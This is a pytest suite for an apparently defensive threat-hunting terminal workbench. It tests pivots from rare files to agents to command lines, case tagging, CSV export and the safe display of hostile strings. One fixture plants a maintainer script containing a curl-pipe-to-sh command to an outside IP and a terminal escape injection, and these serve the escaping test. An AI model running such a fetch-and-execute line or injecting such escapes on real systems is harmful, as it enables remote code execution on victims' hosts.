"""The workbench driven like a user drives it: real sample data, real engine, real case file.

Every value checked comes from the sample's answer key (sample_data/manifest.json), never
from this file, so the tests follow the data if the generator changes.
"""

from __future__ import annotations

import csv
import json
import socket
import sqlite3
from pathlib import Path

import pytest

from casefile import open_case
from collectors.sources import sample_source
from hunts import load_library
from tests.tui_support import (
    control_characters,
    hostile_rows,
    planted_chain,
    screen_text,
    terminal_output,
    wait_for,
    wait_idle,
)
from tui.app import HuntbenchApp
from tui.escape import visible
from tui.keys import WORKBENCH_KEYS
from tui.screens.help import HelpScreen
from tui.screens.query import QueryScreen
from tui.screens.text import TextScreen

BIG = (160, 48)


@pytest.fixture(scope="module")
def sample():
    """One offline source for the module: the sample is loaded into DuckDB once."""
    return sample_source()


@pytest.fixture(scope="module")
def library():
    return load_library(include_user_dir=False)


@pytest.fixture
def make_app(tmp_path, sample, library, monkeypatch):
    monkeypatch.chdir(tmp_path)
    root = tmp_path / "root"
    root.mkdir()

    def make(**kw) -> HuntbenchApp:
        options = dict(source=sample, library=library, hunt=library.default, case_path=tmp_path / "case.db",
                       scan_root=root)
        options.update(kw)
        return HuntbenchApp(**options)

    return make


async def type_text(pilot, text: str) -> None:
    await pilot.press(*[("space" if c == " " else c) for c in text])


async def filter_to(pilot, app, text: str) -> None:
    """``/``, the text, Enter: the pane keeps only rows containing it."""
    await pilot.press("slash")
    filt = app.workbench.query_one("#filter")
    filt.value = text  # typing 40 characters one by one adds nothing but time
    await pilot.pause()
    await pilot.press("enter")
    await pilot.pause()


async def enter_and_wait(pilot, app) -> None:
    pane = app.workbench.pane
    depth = len(pane.stack)
    await pilot.press("enter")
    await wait_for(pilot, lambda: len(pane.stack) == depth + 1 and not pane.view.loading, what="the pivot")


async def follow_chain(pilot, app, chain: dict) -> None:
    """Rare file -> Enter -> agents -> Enter -> command lines, each row picked by filter."""
    await wait_idle(pilot, app)
    await filter_to(pilot, app, chain["file.name"])
    await enter_and_wait(pilot, app)
    await filter_to(pilot, app, chain["agent.id"])
    await enter_and_wait(pilot, app)
    await filter_to(pilot, app, chain["process.command_line"])


async def test_the_chain_from_planted_file_to_agent_to_command_line(make_app):
    chain = planted_chain()
    app = make_app()
    async with app.run_test(size=BIG) as pilot:
        await wait_idle(pilot, app)
        bench = app.workbench
        assert visible(chain["file.name"]) in screen_text(app) or chain["file.name"] in [
            r[bench.pane.view.column_names.index("file.name")] for r in bench.pane.view.result.values]
        await filter_to(pilot, app, chain["file.name"])
        assert visible(chain["file.name"]) in screen_text(app)
        await enter_and_wait(pilot, app)
        view = bench.pane.view
        assert view.name == "pivot:agents_for_file"
        assert view.params == {"file_name": chain["file.name"], "process_executable": chain["process.executable"]}
        text = screen_text(app)
        assert chain["agent.id"] in text and "Agents that wrote this file" in text
        assert f"file.name={visible(chain['file.name'])}"[:60] in text  # the breadcrumb
        await filter_to(pilot, app, chain["agent.id"])
        agent_row = bench.pane.table.cursor_coordinate
        await enter_and_wait(pilot, app)
        assert bench.pane.view.params == {"agent_id": chain["agent.id"]}
        await filter_to(pilot, app, chain["process.command_line"])
        text = screen_text(app)
        flat = " ".join(text.split())
        assert " ".join(visible(chain["process.command_line"]).split())[:70] in flat
        assert bench.pane.selected_row()["process.command_line"] == chain["process.command_line"]
        # Esc: filter first, then back one step with the agent row still selected.
        await pilot.press("escape")
        await pilot.press("escape")
        assert bench.pane.view.name == "pivot:agents_for_file"
        assert bench.pane.table.cursor_coordinate == agent_row
        assert bench.pane.selected_row()["agent.id"] == chain["agent.id"]
        await pilot.press("escape", "escape")
        assert bench.pane.view.name == "query:0"
        assert bench.pane.selected_row()["file.name"] == chain["file.name"]


async def test_tagging_through_the_ui_lands_in_the_case_file_and_marks_rows(make_app, tmp_path):
    chain = planted_chain()
    app = make_app()
    async with app.run_test(size=BIG) as pilot:
        await follow_chain(pilot, app, chain)
        await pilot.press("t")
        await wait_for(pilot, lambda: "needs-review" in screen_text(app), what="the tag dialog")
        await pilot.press("enter")  # malicious, the first choice
        await type_text(pilot, "reverse shell")
        await pilot.press("enter")
        await wait_for(pilot, lambda: any("tagged 1 row malicious" in n for n in app.notifications_shown), what="tagging")
        await wait_for(pilot, lambda: app.workbench.pane.view.tags, what="the tag marker")
        assert "●" in screen_text(app)
        assert "tags: malicious" in screen_text(app)  # the detail pane
        # The same command line in the rare-commands pane carries the "related" marker.
        bench = app.workbench
        await pilot.press("2")
        await wait_idle(pilot, app)
        await filter_to(pilot, app, chain["process.command_line"])
        assert bench.pane.view.visible_rows(), "the tagged command line is among the rare commands"
        assert "○" in screen_text(app)
        # The Case pane lists the finding with its tag and note.
        await pilot.press("c")
        await wait_for(pilot, lambda: bench.pane.view.result is not None and bench.pane.view.result.values and not bench.pane.view.loading,
                       what="the case pane")
        text = screen_text(app)
        assert "malicious" in text and "reverse shell" in text
    case = open_case(tmp_path / "case.db", create=False)
    try:
        (finding,) = case.findings()
        assert finding.tags == ["malicious"]
        assert [n.text for n in finding.notes] == ["reverse shell"]
        assert finding.row["process.command_line"] == chain["process.command_line"]
        assert finding.query == "pivot:agent_script_commands"
        assert finding.params == {"agent_id": chain["agent.id"]}
        assert finding.hunt_name == "Persistence via DPKG/RPM Package"
    finally:
        case.close()


async def test_marked_rows_are_tagged_together_and_the_case_pane_changes_and_removes_tags(make_app, tmp_path):
    app = make_app()
    async with app.run_test(size=BIG) as pilot:
        await wait_idle(pilot, app)
        bench = app.workbench
        await pilot.press("space", "space")
        assert bench.pane.view.marked and len(bench.pane.view.marked) == 2
        await pilot.press("t", "4")  # needs-review
        await pilot.press("enter")
        await wait_for(pilot, lambda: any("tagged 2 rows needs-review" in n for n in app.notifications_shown), what="tagging")
        await pilot.press("c")
        pane = bench.pane
        await wait_for(pilot, lambda: pane.view.result is not None and len(pane.view.result.values) == 2, what="case pane")
        await pilot.press("T", "3", "enter")  # replace the first finding's tags: benign only
        await wait_for(pilot, lambda: any("is now benign only" in n for n in app.notifications_shown), what="retag")
        await wait_for(pilot, lambda: not pane.view.loading and pane.view.result and
                       sorted(r[0] for r in pane.view.result.values) == ["benign", "needs-review"], what="case pane refresh")
        benign_row = next(i for i, r in enumerate(pane.view.result.values) if r[0] == "benign")
        pane.table.move_cursor(row=pane.display_rows().index(benign_row))
        await pilot.press("x")
        await wait_for(pilot, lambda: any("removed benign" in n for n in app.notifications_shown), what="untag")
    case = open_case(tmp_path / "case.db", create=False)
    try:
        assert sorted(tuple(f.tags) for f in case.findings()) in ([(), ("needs-review",)], [("needs-review",)])
    finally:
        case.close()


async def test_export_through_the_ui_writes_the_csv_and_reports_path_and_count(make_app, tmp_path):
    chain = planted_chain()
    app = make_app()
    async with app.run_test(size=BIG) as pilot:
        await follow_chain(pilot, app, chain)
        await pilot.press("t", "1", "enter")
        await wait_for(pilot, lambda: any("tagged 1 row" in n for n in app.notifications_shown), what="tagging")
        await pilot.press("e")
        await wait_for(pilot, lambda: "export the case" in screen_text(app), what="the export prompt")
        default = app.screen.query_one("#prompt-input").value
        assert default.endswith(".csv") and "case-findings" in default
        await pilot.press("enter")
        await wait_for(pilot, lambda: app.last_export is not None, what="the export")
        path, count = app.last_export
        assert count == 1
        assert any(f"exported 1 finding to {path}" in n for n in app.notifications_shown)
    with (tmp_path / path).open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 1
    assert any(chain["process.command_line"][:60] in v for v in rows[0].values())
    assert "malicious" in " ".join(rows[0].values())


def closed_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


async def test_cluster_down_is_an_error_line_and_the_app_stays_usable(make_app):
    from collectors.elastic import connect_source

    down = connect_source(es_url=f"http://127.0.0.1:{closed_port()}", request_timeout=2)
    app = make_app(source=down)
    async with app.run_test(size=(80, 24)) as pilot:
        await wait_idle(pilot, app)
        bench = app.workbench
        error = bench.panes[0].view.error
        assert error and "127.0.0.1" in error and "\n" not in error
        assert "Traceback" not in screen_text(app)
        assert any(error in n for n in app.notifications_shown)
        assert "127.0.0.1" in screen_text(app)  # the header (and the pane) say where
        await pilot.press("question_mark")
        assert isinstance(app.screen, HelpScreen)
        await pilot.press("escape")
        # The palette's "source: open the bundled sample data" gets the responder going again.
        await pilot.press("ctrl+p")
        await pilot.pause(0.3)
        await type_text(pilot, "source: open the bundled")
        await pilot.pause(0.5)
        await pilot.press("enter")
        await wait_for(pilot, lambda: app.source.kind == "offline", what="the sample source")
        await wait_idle(pilot, app)
        assert app.workbench.panes[0].view.result and app.workbench.panes[0].view.result.values
        assert "sample data" in screen_text(app)


async def test_hostile_strings_are_shown_literally_and_never_reach_the_terminal(make_app):
    hostile = hostile_rows(0)
    assert hostile, "the sample has hostile file names"
    app = make_app()
    async with app.run_test(size=BIG) as pilot:
        await wait_idle(pilot, app)
        bench = app.workbench
        for row in hostile:
            await filter_to(pilot, app, visible(row["file.name"])[:20])
            text = screen_text(app)
            sequence, texts = terminal_output(app)
            assert control_characters(texts) == [], "no control or bidi character is displayed raw"
            for raw in ("\x1b]", "\x07", "\u202e", "\x9b", "\x1bP"):
                assert raw not in sequence, f"{raw!r} reached the terminal"
            assert visible(row["file.name"])[:40] in text, "the name appears literally, escaped"
            assert visible(row["file.name"])[:40] in screen_text(app)
            # The detail pane shows it too, and a pivot carries the raw value as a parameter.
            await enter_and_wait(pilot, app)
            assert bench.pane.view.params["file_name"] == row["file.name"]
            assert not bench.pane.view.error
            assert bench.pane.view.result.values, "the hostile file's agents are found"
            _, texts = terminal_output(app)
            assert control_characters(texts) == []
            await pilot.press("escape", "escape")
        # Rich markup in data never becomes a live link.
        update = app.screen._compositor.render_update(full=True)
        import io

        from rich.console import Console

        console = Console(file=io.StringIO(), force_terminal=True, width=BIG[0], height=BIG[1])
        assert not [s for s in console.render(update) if s.style and s.style.link]


async def test_sort_rare_first_and_filter(make_app):
    app = make_app()
    async with app.run_test(size=BIG) as pilot:
        await wait_idle(pilot, app)
        pane = app.workbench.pane
        view = pane.view
        cc = view.column_names.index("cc")
        pane.table.move_cursor(column=pane.column_position("cc"))
        await pilot.press("s")
        asc = [view.result.values[i][cc] for i in pane.display_rows()]
        assert asc == sorted(asc)
        await pilot.press("s")
        desc = [view.result.values[i][cc] for i in pane.display_rows()]
        assert desc == sorted(desc, reverse=True) and desc != asc
        assert "sorted by cc ↓" in screen_text(app)
        await pilot.press("r")
        assert [view.result.values[i][cc] for i in pane.display_rows()] == asc
        assert "rare first by cc" in screen_text(app)
        total = len(view.result.values)
        await filter_to(pilot, app, "rpm")
        shown = pane.display_rows()
        assert 0 < len(shown) < total
        assert all("rpm" in json.dumps(view.result.values[i]) for i in shown)
        assert f"{len(shown)} of {total} rows" in screen_text(app)


async def test_esc_cancels_a_running_query_and_its_late_result_is_dropped(make_app, sample):
    import threading

    release = threading.Event()

    class Held:
        """The real sample source, held back until the test lets it answer (a slow cluster)."""

        kind = "offline"
        language = "ES|QL"

        def describe(self):
            return sample.describe()

        def warm(self):
            sample.warm()

        def run(self, query, params=None, *, cancel=None, progress=None):
            if params:  # pivots wait; the hunt's own queries answer at once
                release.wait(10)
            return sample.run(query, params, cancel=cancel, progress=progress)

    app = make_app(source=Held())
    async with app.run_test(size=BIG) as pilot:
        await wait_idle(pilot, app)
        pane = app.workbench.pane
        await pilot.press("enter")
        await wait_for(pilot, lambda: pane.view.loading, what="the pivot to start")
        assert "running" in screen_text(app)
        pivot_view = pane.view
        await pilot.press("escape")
        assert not pivot_view.loading and pivot_view.error == "cancelled"
        release.set()
        await pilot.pause(1.0)
        assert pivot_view.result is None, "the late result was dropped"
        await pilot.press("escape")
        assert pane.view.name == "query:0"


async def test_query_view_shows_the_error_at_line_col_and_reruns(make_app):
    app = make_app()
    async with app.run_test(size=(80, 24)) as pilot:
        await wait_idle(pilot, app)
        await pilot.press("v")
        assert isinstance(app.screen, QueryScreen)
        area = app.screen.query_one("#query-text")
        assert area.text == app.hunt.queries[0].text
        area.text = "from logs-endpoint.events.file-*\n| where no_such_field == 1"
        await pilot.press("ctrl+r")
        await wait_for(pilot, lambda: "line 2:" in screen_text(app), what="the error")
        assert isinstance(app.screen, QueryScreen) and area.cursor_location[0] == 1
        area.text = "from logs-endpoint.events.file-*\n| keep file.name, agent.id\n| limit 3"
        await pilot.press("ctrl+r")
        await wait_for(pilot, lambda: not isinstance(app.screen, QueryScreen), what="the re-run")
        pane = app.workbench.pane
        assert pane.view.title == "edited query" and len(pane.view.result.values) == 3
        assert pane.view.column_names == ["file.name", "agent.id"]
        await pilot.press("escape")
        assert pane.view.name == "query:0" and "cc" in pane.view.column_names


async def test_help_lists_every_key_and_the_palette_names_category_action(make_app):
    app = make_app()
    async with app.run_test(size=(80, 24)) as pilot:
        await wait_idle(pilot, app)
        commands = list(app.get_system_commands(app.workbench))
        titles = [c.title for c in commands]
        for wanted in ("pane: pivot", "case: tag", "case: export", "pane: filter", "query: query", "app: help"):
            assert wanted in titles
        assert all(t.split(": ")[0] in ("pane", "case", "query", "view", "hunt", "app", "source") for t in titles), titles
        assert len(titles) >= len(WORKBENCH_KEYS) - 2
        await pilot.press("question_mark")
        assert isinstance(app.screen, HelpScreen)
        app.screen.query_one("#help-text")
        rendered = screen_text(app)
        for key in WORKBENCH_KEYS[:6]:
            assert key.description[:30] in " ".join(rendered.split())
        import io

        from rich.console import Console

        from tui.screens.help import help_table

        console = Console(file=io.StringIO(), width=200, record=True)
        console.print(help_table())
        full = console.export_text()
        for key in WORKBENCH_KEYS:
            assert key.description in full
        footer_ids = {b.id for b in app.workbench.BINDINGS if b.show}
        assert {"huntbench.pivot", "huntbench.back", "huntbench.tag", "huntbench.export", "huntbench.help",
                "huntbench.quit"} <= footer_ids
        await pilot.press("escape")
        await pilot.press("q")
    assert app.return_code in (0, None)


async def test_copy_cell_and_row_through_the_terminal_clipboard(make_app):
    app = make_app()
    async with app.run_test(size=BIG) as pilot:
        await wait_idle(pilot, app)
        pane = app.workbench.pane
        row, column = pane.selected_row(), pane.selected_column()
        await pilot.press("y")
        assert app.clipboard == visible(row[column])
        await pilot.press("Y")
        assert json.loads(app.clipboard) == row


async def test_local_scan_cross_links_and_shows_a_maintainer_script(make_app, tmp_path):
    chain = planted_chain(name_suffix=".postinst")
    info = tmp_path / "root" / "var" / "lib" / "dpkg" / "info"
    info.mkdir(parents=True)
    script = info / chain["file.name"]
    script.write_text("#!/bin/sh\ncurl -s http://203.0.113.66/x | sh\necho '\x1b]0;owned\x07'\n", encoding="utf-8")
    app = make_app()
    async with app.run_test(size=BIG) as pilot:
        await wait_idle(pilot, app)
        bench = app.workbench
        await filter_to(pilot, app, chain["file.name"])
        assert "⌂" in screen_text(app), "the rare file also exists on this host"
        scan = next(i for i, p in enumerate(bench.panes) if p.view.name == "scan")
        await pilot.press(str(scan + 1))
        await wait_idle(pilot, app)
        view = bench.pane.view
        assert not view.error, view.error
        names = [r[view.column_names.index("filename")] for r in view.result.values]
        assert chain["file.name"] in names
        await filter_to(pilot, app, chain["file.name"])
        assert "⌂" in screen_text(app)
        await pilot.press("m")
        await wait_for(pilot, lambda: isinstance(app.screen, TextScreen), what="the script viewer")
        text = screen_text(app)
        assert "curl -s http://203.0.113.66/x | sh" in text
        assert "\\x1b]0;owned\\x07" in text
        _, texts = terminal_output(app)
        assert control_characters(texts) == []


async def test_a_locked_case_file_is_one_line_and_nothing_is_lost(make_app, tmp_path, monkeypatch):
    monkeypatch.setenv("HUNTBENCH_CASE_BUSY_TIMEOUT", "0.3")
    case_path = tmp_path / "case.db"
    open_case(case_path).close()
    app = make_app()
    async with app.run_test(size=(80, 24)) as pilot:
        await wait_idle(pilot, app)
        locker = sqlite3.connect(case_path, isolation_level=None)
        locker.execute("BEGIN EXCLUSIVE")
        try:
            await pilot.press("t", "1", "enter")
            await wait_for(pilot, lambda: any(n.startswith("not tagged:") for n in app.notifications_shown), what="the error")
            line = next(n for n in app.notifications_shown if n.startswith("not tagged:"))
            assert "locked" in line and "\n" not in line
        finally:
            locker.execute("ROLLBACK")
            locker.close()
        await pilot.press("t", "1", "enter")
        await wait_for(pilot, lambda: any(n.startswith("tagged 1 row") for n in app.notifications_shown), what="tagging")
    case = open_case(case_path, create=False)
    try:
        assert len(case.findings()) == 1
    finally:
        case.close()


async def test_a_hunt_without_pivots_pivots_on_field_equals_value(make_app, tmp_path, library):
    from hunts.library import parse_hunt

    toml = tmp_path / "hosts.toml"
    toml.write_text('''[hunt]
author = "test"
description = "Linux process starts per host"
integration = ["endpoint"]
uuid = "0b4b6a0e-0000-4000-8000-000000000001"
name = "Process starts per host"
language = ["ES|QL"]
license = "Elastic License v2"
query = [\'\'\'
from logs-endpoint.events.process-*
| where host.os.type == "linux" and event.action == "exec"
| stats n = count() by host.name
| sort n asc
\'\'\']
''', encoding="utf-8")
    hunt = parse_hunt(toml.read_text(), toml)
    app = make_app(hunt=hunt)
    async with app.run_test(size=BIG) as pilot:
        await wait_idle(pilot, app)
        pane = app.workbench.pane
        host = pane.selected_row()["host.name"]
        pane.table.move_cursor(column=pane.column_position("host.name"))
        await enter_and_wait(pilot, app)
        view = pane.view
        assert view.name == "events" and view.params == {"value": host}
        assert "host.name == ?value" in view.query
        assert view.result.values and all(r[view.column_names.index("host.name")] == host for r in view.result.values)
        assert f"host.name={host}" in screen_text(app)
        agent = view.row_dict(0)["agent.id"]
        pane.table.move_cursor(column=pane.column_position("agent.id"))
        await enter_and_wait(pilot, app)
        assert pane.view.query.startswith("from logs-*") and pane.view.params == {"value": agent}
        assert not pane.view.error


@pytest.mark.parametrize("args, says", [
    (["--sample", "--hunt", "no-such-hunt"], "no hunt named 'no-such-hunt'"),
    (["--sample", "--now", "yesterday"], "--now 'yesterday' is not an ISO-8601 timestamp"),
    (["--sample", "--es-url", "http://127.0.0.1:9"], "not both"),
])
def test_bad_start_options_are_one_error_line(args, says, tmp_path):
    import subprocess
    import sys

    exe = Path(sys.executable).with_name("huntbench")
    done = subprocess.run([str(exe), *args, "--case", str(tmp_path / "c.db")], capture_output=True, text=True, timeout=120)
    assert done.returncode == 2
    assert done.stderr.startswith("error: ") and says in done.stderr
    assert len(done.stderr.strip().splitlines()) == 1 and "Traceback" not in done.stderr


async def test_the_hunt_picker_opens_another_hunt(make_app, tmp_path):
    from hunts import load_library as load

    folder = tmp_path / "hunts"
    folder.mkdir()
    (folder / "shells.toml").write_text('''[hunt]
author = "test"
description = "Interactive shells started by dpkg scripts"
integration = ["endpoint"]
uuid = "0b4b6a0e-0000-4000-8000-000000000002"
name = "Shells from package scripts"
language = ["ES|QL"]
license = "Elastic License v2"
mitre = ["T1059.004"]
notes = ["Look for bash -i"]
query = [\'\'\'
from logs-endpoint.events.process-*
| where process.parent.executable like "/var/lib/dpkg/info/*"
| stats n = count() by process.command_line
| sort n asc
| limit 20
\'\'\']
''', encoding="utf-8")
    app = make_app(library=load([folder], include_user_dir=False))
    async with app.run_test(size=BIG) as pilot:
        await wait_idle(pilot, app)
        await pilot.press("h")
        await pilot.pause(0.2)
        app.screen.query_one("#hunt-filter").value = "shells"
        await pilot.pause(0.2)
        assert "Look for bash -i" in screen_text(app)  # notes of the highlighted hunt
        await pilot.press("enter", "enter")
        await wait_for(pilot, lambda: app.hunt.name == "Shells from package scripts", what="the new hunt")
        await wait_idle(pilot, app)
        bench = app.workbench
        assert [p.label for p in bench.panes] == ["1 Q1 process-*", "2 Case"]
        assert bench.panes[0].view.result.values
        assert "Shells from package scripts" in screen_text(app)


async def test_a_typed_tag_is_saved(make_app, tmp_path):
    app = make_app()
    async with app.run_test(size=(80, 24)) as pilot:
        await wait_idle(pilot, app)
        await pilot.press("t", "tab")
        await type_text(pilot, "c2-beacon")
        await pilot.press("enter", "enter")
        await wait_for(pilot, lambda: any("tagged 1 row c2-beacon" in n for n in app.notifications_shown), what="tag")
    case = open_case(tmp_path / "case.db", create=False)
    try:
        assert [f.tags for f in case.findings()] == [["c2-beacon"]]
    finally:
        case.close()
